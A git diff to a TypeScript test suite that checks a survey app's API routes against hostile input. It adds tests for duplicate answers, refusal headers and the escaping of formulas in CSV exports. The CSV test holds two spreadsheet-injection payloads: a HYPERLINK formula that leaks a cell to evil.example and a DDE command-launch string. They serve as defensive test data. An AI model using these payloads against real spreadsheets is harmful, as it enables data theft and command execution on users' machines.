@@ -1,6 +1,7 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { NextRequest } from 'next/server';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import * as groups from '@/app/api/v1/groups/route';
 import * as leaders from '@/app/api/v1/leaders/route';
@@ -12,14 +13,16 @@ import * as results from '@/app/api/v1/rounds/[id]/results/route';
 import * as actions from '@/app/api/v1/rounds/[id]/actions/route';
 import * as report from '@/app/api/v1/rounds/[id]/report.pdf/route';
 import * as answers from '@/app/api/r/[token]/answers/route';
+import * as answersCsv from '@/app/api/r/[token]/answers.csv/route';
 import * as submit from '@/app/api/r/[token]/submit/route';
 import * as poolConcern from '@/app/api/r/[token]/pool-concern/route';
+import { questionnaire2026_1 as q } from '@/content/questionnaires/v2026-1';
 import { ownerDb } from '@/tests/support/owner-db';
 import { personalLinkFor } from '@/lib/invitations/links';
 import { stopJobQueue } from '@/lib/jobs/queue';
 import { tenantModels } from '@/lib/tenant/tenant-models';
 import { createApiOrg } from '../fixtures/api';
-import { createRespondent } from '../fixtures/respondents';
+import { createRespondent, fullAnswers } from '../fixtures/respondents';
 
 /**
  * Every API route gets what an attacker or a broken client sends: malformed JSON, a huge body,
@@ -90,8 +93,11 @@ async function expectCleanRefusal(response: Response, label: string) {
   const text = await response.text();
   expect(response.status, `${label}: ${text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
   expect(response.status, `${label}: ${text.slice(0, 200)}`).toBeLessThan(500);
+  // Refusals name what was wrong with a person's data: no cache may keep them either.
+  expect(response.headers.get('cache-control'), label).toContain('no-store');
   const body = JSON.parse(text) as { error: { code: string; message: string } };
   expect(typeof body.error.code).toBe('string');
+  if (response.status === 401) expect(response.headers.get('www-authenticate'), label).toMatch(/^Bearer /);
   expect(body.error.message).not.toMatch(/prisma|postgres|SELECT|INSERT|at \w+ \(|node_modules|invalid byte sequence/i);
 }
 
@@ -196,5 +202,46 @@ describe('the personal-link API under hostile input', () => {
     }
     for (const { label, body } of hostileBodies(['message'])) await expectCleanRefusal(await post(body), `pool concern with ${label}`);
     expect(await snapshot()).toEqual(before);
+  });
+
+  it('refuses an answer given twice in one body with a 400 that names the item, and writes nothing', async () => {
+    const before = await snapshot();
+    const route = { params: Promise.resolve({ token: ids.token }) };
+    const [first, second] = [q.items[0]!.key, q.items[1]!.key];
+    const bodies = [
+      { answers: [{ itemKey: first, value: 2 }, { itemKey: second, value: 3 }, { itemKey: first, value: 4 }] },
+      { answers: [{ itemKey: first, value: 2 }, { itemKey: first, value: null }] },
+    ];
+    for (const body of bodies) {
+      const response = await answers.POST(new NextRequest(`http://t/api/r/${ids.token}/answers`, { method: 'POST', body: JSON.stringify(body) }), route);
+      expect(response.status, JSON.stringify(body)).toBe(400);
+      const { error } = (await response.json()) as { error: { code: string; details: { path: string; message: string }[] } };
+      expect(error.code).toBe('validation_failed');
+      expect(error.details).toEqual([{ path: `answers.${body.answers.length - 1}.itemKey`, message: `“${first}” is answered more than once.` }]);
+    }
+    expect(await snapshot()).toEqual(before);
+  });
+
+  it("escapes formulas in the leader's own answers CSV, as in every other CSV, and keeps negative answers numbers", async () => {
+    const respondent = await createRespondent();
+    const token = (await personalLinkFor(ownerDb(), respondent.invitation)).url.split('/').pop()!;
+    const route = { params: Promise.resolve({ token }) };
+    const comments = { strain: '=HYPERLINK("http://evil.example/?"&A1,"Klik")', resource: '@SUM(1+1)*cmd|" /C calc"!A0' };
+    const saved = await answers.POST(
+      new NextRequest(`http://t/api/r/${token}/answers`, { method: 'POST', body: JSON.stringify({ answers: fullAnswers({ strain: 2, resource: 4, relation: -1 }), comments }) }),
+      route,
+    );
+    expect(saved.status).toBe(200);
+    for (const [lang, delimiter] of [['da', ';'], ['en', ',']] as const) {
+      const response = await answersCsv.GET(new NextRequest(`http://t/api/r/${token}/answers.csv?lang=${lang}`), route);
+      expect(response.status).toBe(200);
+      const rows = Papa.parse<string[]>((await response.text()).replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true }).data;
+      const cells = rows.flat();
+      expect(cells).toContain(`'${comments.strain}`);
+      expect(cells).toContain(`'${comments.resource}`);
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+$/.test(cell))).toEqual([]);
+      // The relations were answered -1: a number, not text.
+      expect(rows.filter((row) => row[2] === '-1')).toHaveLength(q.relations.length);
+    }
   });
 });
